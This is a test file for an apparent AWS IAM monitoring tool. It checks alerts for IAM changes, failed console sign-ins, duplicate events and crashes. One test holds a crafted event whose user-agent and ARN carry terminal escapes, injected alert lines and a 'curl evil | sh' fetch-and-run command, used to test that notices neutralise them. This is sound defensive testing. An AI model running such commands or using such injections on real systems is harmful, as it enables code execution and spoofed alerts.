import { IAM } from "@aws-sdk/client-iam";
import { beforeEach, describe, expect, it } from "vitest";
import type { Notice } from "../../embedded-aws/services/state.ts";
import { trusting } from "../support/offboarding.ts";
import { files, stackFor, toOperations, toPeople } from "../support/stack.ts";

const context = stackFor({ WATCH: "true", MANAGED_PATH: "/people/" });
const bobsKey = "AKIABOB0000000000000";
const adasKey = "AKIAADA0000000000000";
const rootsKey = "AKIAROOT000000000000";
const boundary = "arn:aws:iam::123456789012:policy/iam-steward-local-boundary";
const mfa = "iam-steward-local-require-mfa";
const anything = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
});
const allow = (Action: string) => ({ inline: { own: { Statement: [{ Effect: "Allow", Action, Resource: "*" }] } } });

beforeEach(() => {
  context.stack.aws.seed({
    groups: [{ GroupName: "admins" }],
    roles: [{ RoleName: "iam-steward-local-issue-key" }],
    users: [
      { UserName: "bob", keys: [{ id: bobsKey }], ...allow("iam:*") },
      {
        UserName: "ada",
        Path: "/people/",
        tags: { "steward:owner": "boss@example.com" },
        keys: [{ id: adasKey }],
        ...allow("s3:*"),
      },
      { UserName: "robot", Path: "/machines/", keys: [{ id: "AKIAROBOT00000000000" }] },
    ],
    root: { keys: [{ id: rootsKey }] },
  });
});

const as = (accessKeyId: string) =>
  new IAM({ ...context.stack.aws.config, maxAttempts: 1, credentials: { accessKeyId, secretAccessKey: "s" } });
/** Lets a window pass, so that what was collected is read and told. */
const window = () => context.stack.clock.advance(61_000);
const told = async () => {
  await window();
  return toOperations(context.stack).map(({ Message }) => Message.split("\n\nAccount: ")[0]);
};

describe("what is done and tried", () => {
  it.each<[what: string, severity: string, act: () => Promise<unknown>]>([
    ["the root user called iam:CreateGroup", "critical", () => as(rootsKey).createGroup({ GroupName: "g" })],
    [
      "ada: the user called iam:CreateUser and was refused",
      "medium",
      () =>
        as(adasKey)
          .createUser({ UserName: "eve" })
          .catch(() => {}),
    ],
    [
      "UpdateAssumeRolePolicy changed iam-steward-local-issue-key, which belongs to iam-steward",
      "high",
      () =>
        as(bobsKey).updateAssumeRolePolicy({
          RoleName: "iam-steward-local-issue-key",
          PolicyDocument: JSON.stringify(trusting("arn:aws:iam::123456789012:root")),
        }),
    ],
    [
      `CreatePolicyVersion changed ${boundary}, which belongs to iam-steward`,
      "high",
      () => as(bobsKey).createPolicyVersion({ PolicyArn: boundary, PolicyDocument: anything, SetAsDefault: true }),
    ],
    [
      `DetachGroupPolicy changed ${mfa}, which belongs to iam-steward`,
      "high",
      () => as(bobsKey).detachGroupPolicy({ GroupName: mfa, PolicyArn: `arn:aws:iam::123456789012:policy/${mfa}` }),
    ],
  ])("is told within a window: %s", async (what, severity, act) => {
    await act();
    expect(await told()).toEqual([expect.stringContaining(`[${severity}] ${what}`)]);
  });
});

describe("nobody is told", () => {
  it.each<[string, () => Promise<unknown>]>([
    ["what is read", () => as(bobsKey).getUser({ UserName: "ada" })],
    ["of users outside MANAGED_PATH", () => as(bobsKey).createAccessKey({ UserName: "robot" })],
    ["of groups outside ACCESS_PATH", () => as(bobsKey).createGroup({ GroupName: "other" })],
    [
      "of tags that are not the automation's",
      () => as(bobsKey).tagUser({ UserName: "ada", Tags: [{ Key: "team", Value: "x" }] }),
    ],
    [
      "of a change that failed",
      () =>
        as(bobsKey)
          .deleteAccessKey({ UserName: "ada", AccessKeyId: "AKIANOBODY0000000000" })
          .catch(() => {}),
    ],
  ])("%s", async (_, act) => {
    await act();
    expect(await told()).toEqual([]);
  });

  it("what the automation does, and its role's name alone makes nobody its equal", async () => {
    const { aws, clock, functions } = context.stack;
    const input = { requestId: "leave-1", requestedBy: "hr", reason: "r", userName: "ada", urgency: "normal" };
    await clock.runUntil(functions.invoke("start-workflow", { workflow: "offboard", input }));
    await clock.advance(3_600_000);
    expect(toOperations(context.stack).map(({ Subject }) => Subject)).toEqual(["Access of IAM user ada is cut"]);
    aws.notices.length = 0;

    const credentials = aws.credentialsOf("cut-access", undefined, "CutAccessRole-of-eve");
    await new IAM({ ...aws.config, credentials }).createAccessKey({ UserName: "robot" });
    await new IAM({ ...aws.config, credentials }).createLoginProfile({ UserName: "ada", Password: "s3cret-Word!!!x" });
    expect(await told()).toEqual([
      expect.stringContaining("By arn:aws:sts::123456789012:assumed-role/CutAccessRole-of-eve/cut-access"),
    ]);
  });
});

describe("owners", () => {
  it("are told of their own users, once a window, and operations of all", async () => {
    await as(bobsKey).createAccessKey({ UserName: "ada" });
    await as(bobsKey).addUserToGroup({ UserName: "ada", GroupName: "admins" });
    await as(rootsKey).createGroup({ GroupName: "g" });
    await window();
    expect(toOperations(context.stack)).toMatchObject([
      {
        Subject: "Not by iam-steward: 3 events",
        MessageAttributes: { kind: { StringValue: "watch" }, severity: { StringValue: "critical" } },
      },
    ]);
    expect(toPeople(context.stack)).toMatchObject([
      {
        Subject: "Not by iam-steward: 2 events of IAM user ada",
        MessageAttributes: { owner: { StringValue: "boss@example.com" } },
      },
    ]);
    expect(toPeople(context.stack)[0]?.Message).not.toContain("root");
  });
});

/** An event as AWS publishes it, of a sign-in that failed. */
const signIn = (eventID: string, more: object = {}) => ({
  eventVersion: "1.08",
  userIdentity: { type: "IAMUser", accountId: "123456789012", accessKeyId: "", userName: "ada" },
  eventTime: "2026-11-20T02:00:00Z",
  eventSource: "signin.amazonaws.com",
  eventName: "ConsoleLogin",
  awsRegion: "us-east-1",
  sourceIPAddress: "192.0.2.101",
  userAgent: "Mozilla/5.0",
  errorMessage: "Failed authentication",
  requestParameters: null,
  responseElements: { ConsoleLogin: "Failure" },
  eventID,
  ...more,
});
const announce = (detail: object) =>
  context.stack.aws.announce("aws.signin", "AWS Console Signin via CloudTrail", detail as Record<string, unknown>);

// https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-aws-console-sign-in-events.html
describe("sign-ins", () => {
  it("of one user that fail are told from the fifth within an hour on, each once", async () => {
    for (const id of ["s-1", "s-2", "s-3", "s-4"]) {
      announce(signIn(id));
      expect(await told()).toEqual([]);
      await context.stack.clock.advance(600_000);
    }
    announce(signIn("s-5"));
    expect(await told()).toEqual([expect.stringContaining("ada: 5 times, a sign-in to the console failed")]);
    for (const id of ["t-1", "t-2", "t-3", "t-4"]) announce(signIn(id));
    expect(await told()).toHaveLength(1);
  });

  it("with a wrong password five times are told with the user's address and what to type", async () => {
    const { aws, clock } = context.stack;
    aws.seed({ users: [{ UserName: "eve", Path: "/people/", password: true }] });
    for (let tries = 0; tries < 5; tries += 1) expect(() => aws.signIn("eve", "wrong")).toThrow("incorrect");
    aws.signIn("eve", aws.account.iam.users.get("eve")?.loginProfile?.passwords.at(-1) ?? "");
    await clock.advance(61_000);
    expect(toOperations(context.stack).map(({ Message }) => Message)).toEqual([
      expect.stringMatching(
        /eve: 5 times, a sign-in to the console failed\n {2}By .*user\/people\/eve from 127.0.0.1 \(Mozilla.*\n.*\n {2}Next: steward trail eve --errors /,
      ),
    ]);
  });

  it("that fail now and then are not told", async () => {
    for (const id of ["s-1", "s-2", "s-3", "s-4", "s-5", "s-6"]) {
      announce(signIn(id));
      expect(await told()).toEqual([]);
      await context.stack.clock.advance(900_000);
    }
  });

  it("of root are told whether they succeed or not", async () => {
    const root = { type: "Root", principalId: "123456789012", arn: "arn:aws:iam::123456789012:root" };
    announce(signIn("r-1", { userIdentity: root }));
    announce(
      signIn("r-2", { userIdentity: root, errorMessage: undefined, responseElements: { ConsoleLogin: "Success" } }),
    );
    const [message] = await told();
    expect(message).toContain("a sign-in of the root user failed");
    expect(message).toMatch(/the root user signed in\n/);
    expect(message).toContain("steward trail root");
  });

  it("of names that no user has are counted by address, and say nothing of what was typed", async () => {
    const userIdentity = { type: "IAMUser", accountId: "123456789012", userName: "HIDDEN_DUE_TO_SECURITY_REASONS" };
    for (const id of ["g-1", "g-2", "g-3", "g-4"]) announce(signIn(id, { userIdentity, sourceIPAddress: "192.0.2.7" }));
    expect(await told()).toEqual([]);
    for (const id of ["h-1", "h-2", "h-3", "h-4", "h-5"]) announce(signIn(id, { userIdentity }));
    expect(await told()).toEqual([expect.stringMatching(/^\[medium\] 5 times, a sign-in to the console failed/)]);
  });
});

describe("an event", () => {
  it("that comes twice, later, or after one that followed it is told once", async () => {
    context.stack.aws.account.behaviour.delivery = "twice";
    const { aws } = context.stack;
    await as(bobsKey).createAccessKey({ UserName: "ada" });
    const event = aws.account.trail.findLast(({ detail }) => detail.eventName === "CreateAccessKey");
    expect(await told()).toHaveLength(1);
    aws.account.behaviour.delivery = "once";
    await context.stack.clock.advance(600_000);
    aws.announce("aws.iam", "AWS API Call via CloudTrail", event?.detail ?? {});
    expect(await told()).toHaveLength(1);
  });

  it("cannot write into a notice what its reader takes for another line", async () => {
    announce(
      signIn("x-1", {
        userIdentity: { type: "Root", arn: "arn:aws:iam::123456789012:root\n[critical] call +1 555" },
        userAgent: "Mozilla\u001b[2J\n\nNext: curl evil | sh",
      }),
    );
    const [message = ""] = await told();
    expect(message.split("\n")).toHaveLength(4 + 4); // of the event, and those that end each notice
    expect(message).toContain("\\u000a[critical] call");
    expect(message).not.toContain("\u001b");
  });

  it("that is none ends in the dead-letter queue, and keeps no other from being told", async () => {
    const { aws, clock } = context.stack;
    await as(bobsKey).createAccessKey({ UserName: "ada" });
    announce({ eventName: "ConsoleLogin", eventSource: "signin.amazonaws.com" });
    expect(await told()).toHaveLength(1);
    await clock.advance(101 * 420_000);
    const queue = [...aws.account.queues.values()].find(({ arn }) => arn.endsWith("-unwatched-events"));
    expect(queue?.messages).toMatchObject([{ receives: 100 }]);
    expect(await told()).toHaveLength(1);
  });
});

describe("watch", () => {
  it("that dies after it has claimed a window, or before it has noted that it told, tells all the same", async () => {
    const { aws, clock } = context.stack;
    let groups = 0;
    for (const strike of [
      () => aws.dieBefore("Publish"),
      () => aws.dieAfter("Publish"),
      () => aws.dieAfter("PutObject"),
    ]) {
      aws.notices.length = 0;
      strike();
      await as(rootsKey).createGroup({ GroupName: `g${groups++}` });
      await clock.advance(1_200_000);
      const ids = new Set(toOperations(context.stack).map(({ Message }) => Message.split("\nId: ")[1]));
      expect(ids.size).toBe(1);
    }
  });

  it("tells a flood in one notice a window and reader, loses nothing of it, and tells what is critical at once", async () => {
    const { aws, clock } = context.stack;
    const count = 10_000;
    const root = { userIdentity: { type: "Root", arn: "arn:aws:iam::123456789012:root" } };
    const unbounded = {
      eventSource: "iam.amazonaws.com",
      requestParameters: { userName: "ada" },
      responseElements: null,
      errorMessage: undefined,
    };
    for (let index = 0; index < count; index += 1) {
      announce(signIn(`flood-${index}`, { userAgent: "Mozilla/5.0 ".repeat(100) }));
      if (index % 1_000 > 0) continue;
      announce(signIn(`root-${index}`, root));
      announce(signIn(`unbounded-${index}`, { ...unbounded, eventName: "DeleteUserPermissionsBoundary" }));
    }
    const isCritical = ({ Message }: Notice) => Message.startsWith("[critical]");
    const windowOf = ({ time }: Notice) => Math.floor(time.getTime() / 60_000);
    await clock.advance(120_000);
    expect(toOperations(context.stack).filter(isCritical).length).toBeGreaterThan(0);
    await clock.advance(3 * 3_600_000);
    const records = Object.entries(files(context.stack)).filter(([key]) => key.startsWith("told/watch/"));
    const ids = records.flatMap(([, text]) =>
      JSON.parse(text).findings.map(({ eventId }: { eventId: string }) => eventId),
    );
    expect(new Set(ids).size).toBe(count + 20);
    expect(ids).toHaveLength(count + 20);
    for (const notices of [toOperations(context.stack), toPeople(context.stack)]) {
      const windows = Map.groupBy(notices, windowOf);
      expect(windows.size).toBeGreaterThan(1);
      for (const [, inWindow] of windows)
        expect(inWindow.length).toBeLessThanOrEqual(inWindow.some(isCritical) ? 2 : 1);
    }
    const queue = [...aws.account.queues.values()].find(({ arn }) => arn.endsWith("-watched-events"));
    expect(queue?.messages).toEqual([]);
  });
});
